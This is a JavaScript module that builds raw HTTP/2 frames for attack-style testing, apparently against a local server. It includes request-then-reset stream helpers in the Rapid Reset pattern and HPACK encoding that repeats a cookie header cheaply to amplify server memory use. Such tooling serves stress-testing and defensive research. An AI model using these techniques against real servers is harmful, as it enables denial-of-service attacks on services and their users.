// HTTP/2 by hand: frames as an attacker writes them, whatever the rules say.

import { dial } from "./wire.mjs";

const PREFACE = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const KIND = { data: 0, headers: 1, reset: 3, settings: 4, ping: 6, goAway: 7, windowUpdate: 8 };
const END_STREAM = 1;
const END_HEADERS = 4;
const ACK = 1;

function frameOf(kind, flags, stream, payload = Buffer.alloc(0)) {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = kind;
  head[4] = flags;
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

function number(value) {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32BE(value);
  return bytes;
}

/** A string of HPACK, without Huffman's code. */
function text(value) {
  const data = Buffer.from(value);
  if (data.length < 127) return Buffer.concat([Buffer.from([data.length]), data]);
  const length = [127];
  let rest = data.length - 127;
  for (; rest >= 128; rest >>= 7) length.push((rest & 127) | 128);
  return Buffer.concat([Buffer.from([...length, rest]), data]);
}

const GET = 0x82;
const HTTP = 0x86;
const indexed = (index) => 0x80 | index;
/** A field whose name is in the static table, entered into the dynamic one. */
const entered = (name, value) => Buffer.concat([Buffer.from([0x40 | name]), text(value)]);
const NAMES = { authority: 1, path: 4, cookie: 32 };

/**
 * The fields of a GET, for the first time and again: the second time they are in the connection's table and take a byte each.
 * A `cookie` is repeated `copies` times, each time by one byte.
 */
export function getBlocks(path, { cookie, copies = 0 } = {}) {
  const repeated = cookie ? Array.from({ length: copies }, () => indexed(62)) : [];
  const first = [Buffer.from([GET, HTTP]), entered(NAMES.path, path), entered(NAMES.authority, "localhost")];
  if (cookie) first.push(entered(NAMES.cookie, cookie), Buffer.from(repeated.slice(1)));
  const newest = cookie ? 62 : 61;
  return {
    first: Buffer.concat(first),
    again: Buffer.from([GET, HTTP, indexed(newest + 2), indexed(newest + 1), ...repeated]),
  };
}

/** One connection. */
export class Http2 {
  static async connect(port) {
    const socket = await dial(port);
    return socket && new Http2(socket);
  }

  constructor(socket) {
    this.socket = socket;
    this.nextStream = 1;
    this.started = 0;
    this.ended = 0;
    this.isOver = false;
    this.rest = Buffer.alloc(0);
    this.waiting = [];
    const end = () => { this.isOver = true; this.#wake(); };
    socket.on("data", (data) => this.#read(data));
    socket.once("close", end);
    const window = Buffer.concat([Buffer.from([0, 4]), number(0x7fffffff)]);
    socket.write(Buffer.concat([
      Buffer.from(PREFACE),
      frameOf(KIND.settings, 0, 0, window),
      frameOf(KIND.windowUpdate, 0, 0, number(0x7fffffff - 65535)),
    ]));
  }

  /** The bytes of a request without a body. */
  request(block) {
    const stream = this.nextStream;
    this.nextStream += 2;
    this.started += 1;
    return frameOf(KIND.headers, END_STREAM | END_HEADERS, stream, block);
  }

  /** The bytes that take the latest request back. */
  reset() {
    return frameOf(KIND.reset, 0, this.nextStream - 2, number(8));
  }

  /** Resolves when fewer than `most` requests wait for their answer, or the connection is over. */
  async fewer(most) {
    while (!this.isOver && this.started - this.ended >= most) await new Promise((resolve) => this.waiting.push(resolve));
  }

  #wake() {
    for (const resolve of this.waiting.splice(0)) resolve();
  }

  #read(data) {
    this.rest = this.rest.length ? Buffer.concat([this.rest, data]) : data;
    let at = 0;
    while (this.rest.length - at >= 9) {
      const length = this.rest.readUIntBE(at, 3);
      if (this.rest.length - at < 9 + length) break;
      this.#take(this.rest[at + 3], this.rest[at + 4], this.rest.subarray(at + 9, at + 9 + length));
      at += 9 + length;
    }
    this.rest = Buffer.from(this.rest.subarray(at));
    this.#wake();
  }

  #take(kind, flags, payload) {
    if (kind === KIND.settings && !(flags & ACK)) this.socket.write(frameOf(KIND.settings, ACK, 0));
    if (kind === KIND.ping && !(flags & ACK)) this.socket.write(frameOf(KIND.ping, ACK, 0, payload));
    if (kind === KIND.goAway) this.isOver = true;
    if (kind === KIND.reset || ((kind === KIND.data || kind === KIND.headers) && flags & END_STREAM)) this.ended += 1;
  }
}
